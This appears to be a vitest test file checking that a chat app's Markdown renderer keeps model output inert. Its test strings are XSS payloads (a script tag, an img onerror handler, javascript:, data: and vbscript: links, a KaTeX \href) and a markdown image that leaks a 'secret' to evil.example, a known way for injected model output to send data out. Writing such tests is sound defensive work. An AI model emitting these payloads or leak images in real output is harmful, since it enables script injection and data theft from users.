import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown";
import { safeLinkUrl } from "@/lib/markdown/safe-url";
import "@/tests/support/typeset-in-place";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} streaming={false} />);

describe("model output stays inert", () => {
  it("shows HTML as text instead of creating elements", () => {
    const html = render('<script>alert(1)</script>\n\nHi <img src="x" onerror="alert(1)"> there');
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(html).toContain("&lt;img");
  });

  it("drops javascript:, data: and relative link targets but keeps the link text", () => {
    for (const target of [
      "javascript:alert(1)",
      "JavaScript:alert(1)",
      "data:text/html,<b>x</b>",
      "/api/chat",
    ]) {
      const html = render(`[click me](${target})`);
      expect(html).not.toContain("<a");
      expect(html).not.toMatch(/<a\b|href=/);
      expect(html).toContain("click me");
    }
  });

  it("keeps http, https and mailto links, opening outside the app", () => {
    for (const target of ["http://example.com/a", "https://example.com/b", "mailto:someone@example.com"]) {
      expect(render(`[link](${target})`)).toContain(
        `<a href="${target}" target="_blank" rel="noopener noreferrer nofollow"`,
      );
    }
  });

  it("never loads an image the model points at", () => {
    const html = render("![tracking pixel](https://evil.example/leak?q=secret)");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("evil.example");
    expect(html).toContain("tracking pixel");
  });

  it("keeps KaTeX from emitting links or HTML of the model's choosing", () => {
    const html = render("$\\href{javascript:alert(1)}{x}$ and $\\htmlClass{evil}{y}$");
    // The source survives only as text, in the MathML annotation that screen readers and copying use.
    expect(html).not.toMatch(/<a\b|href=/);
    expect(html).not.toContain('class="evil"');
  });
});

describe("safeLinkUrl", () => {
  it("allows only http, https and mailto", () => {
    expect(safeLinkUrl(" https://a.example ")).toBe("https://a.example");
    expect(safeLinkUrl("MAILTO:x@a.example")).toBe("MAILTO:x@a.example");
    expect(safeLinkUrl("java\tscript:alert(1)")).toBeNull();
    expect(safeLinkUrl("vbscript:msgbox")).toBeNull();
    expect(safeLinkUrl("#top")).toBeNull();
  });
});
